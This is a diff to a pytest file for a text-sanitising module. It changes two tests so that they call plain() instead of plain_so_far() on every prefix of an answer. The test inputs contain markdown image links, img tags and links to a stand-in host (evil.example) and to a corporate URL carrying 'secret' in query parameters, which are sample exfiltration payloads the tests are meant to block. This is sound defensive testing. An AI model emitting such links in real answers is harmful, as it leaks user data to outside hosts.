@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from model.wording import plain, plain_so_far, whole_sentences
+from model.wording import plain, whole_sentences
 
 
 @pytest.mark.parametrize(
@@ -36,7 +36,7 @@ def test_links_images_tags_and_control_characters_do_not_pass(written: str, show
 def test_no_prefix_of_a_hostile_answer_ever_shows_its_address() -> None:
     written = "You get ![pixel](https://evil.example/p?d=secret) twelve weeks <img src=https://evil.example/x> [a](http://evil.example) ."
     for end in range(len(written) + 1):
-        shown = plain_so_far(written[:end])
+        shown = plain(written[:end])
         assert "evil.example" not in shown
         assert "http" not in shown
 
@@ -115,7 +115,7 @@ def test_joiners_and_signs_of_comparison_stay(written: str, shown: str) -> None:
 def test_no_prefix_of_an_answer_shows_a_longer_address_than_the_pages() -> None:
     written = "Open https://vpn.corp.example/start?q=secret and ![p](https://vpn.corp.example/start?d=1) or <img src=x> [a](http://e.example) ."
     for end in range(len(written) + 1):
-        shown = plain_so_far(written[:end], PAGE)
+        shown = plain(written[:end], PAGE)
         assert "secret" not in shown
         assert "](" not in shown
         assert "<img" not in shown
